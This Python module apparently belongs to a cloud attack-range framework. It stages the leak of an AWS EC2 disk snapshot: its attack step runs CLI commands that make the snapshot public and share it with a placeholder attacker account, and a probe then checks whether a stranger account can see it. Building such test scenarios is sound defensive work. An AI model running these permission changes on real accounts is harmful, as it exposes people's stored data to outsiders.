"""A snapshot of a disk with other people's data is shared with everybody, and with an account of the attacker's."""

from __future__ import annotations

from typing import Any

from quell_range.attacks.stage import Made, Stage, tried

#: An account that is nobody's here.
ATTACKER = "999911112222"


def prepare(stage: Stage) -> Made:
    ec2 = stage.client("ec2")
    volume = ec2.create_volume(Size=8, AvailabilityZone=f"{stage.region}a")["VolumeId"]
    snapshot = ec2.create_snapshot(VolumeId=volume, Description=f"orders-{stage.mark}")["SnapshotId"]
    # Another account of one's own makes its backups from it.
    ec2.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[_sibling(stage)["id"]])
    return {"resource": snapshot}


def attack(stage: Stage, made: Made) -> None:
    words = ("ec2", "modify-snapshot-attribute", "--snapshot-id", made["resource"], "--attribute", "createVolumePermission", "--operation-type", "add")
    stage.aws(*words, "--group-names", "all")
    stage.aws(*words, "--user-ids", ATTACKER)


def read(stage: Stage, made: Made) -> Any:
    told = stage.client("ec2").describe_snapshot_attribute(SnapshotId=made["resource"], Attribute="createVolumePermission")
    return sorted(str(one.get("Group") or one["UserId"]) for one in told["CreateVolumePermissions"])


def probe(stage: Stage, made: Made) -> str:
    """Whether somebody of an account that it was never given to sees it."""
    stranger = next(a for a in stage.info["accounts"] if a["id"] not in (stage.account["id"], _sibling(stage)["id"]))
    return tried(stage.client("ec2", dict(stranger["developer"])).describe_snapshots, SnapshotIds=[made["resource"]])


def _sibling(stage: Stage) -> dict[str, Any]:
    return dict(next(a for a in stage.info["accounts"] if a["id"] != stage.account["id"]))
